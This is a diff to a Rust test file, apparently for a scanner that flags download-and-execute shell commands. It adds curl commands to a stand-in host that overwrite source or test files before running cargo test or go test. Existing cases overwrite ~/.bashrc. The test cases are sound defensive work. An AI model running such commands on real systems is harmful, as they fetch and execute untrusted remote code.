@@ -97,12 +97,15 @@ fn what_is_fetched_into_the_place_of_a_manifest_is_run_by_its_own_tool() {
             "curl -o /tmp/x http://h.example/; mv /tmp/x ~/.bashrc",
             "curl -o /tmp/.bashrc http://h.example/; mv -t ~ /tmp/.bashrc",
             "curl -o package.json http://h.example/; npm test",
+            "curl -o src/lib.rs http://h.example/; cargo test",
+            "curl -o a_test.go http://h.example/; go test ./...",
         ],
     );
     none(
         FindingKind::DownloadAndExecute,
         &[
             "curl -o fixtures/package.json https://h.example/p.json; cargo test",
+            "curl -o testdata/a.rs https://h.example/x; cargo test",
             "curl -o testdata/Dockerfile https://h.example/x; make test",
             "curl -o /tmp/x http://h.example/; mv /tmp/x data/x.csv",
         ],
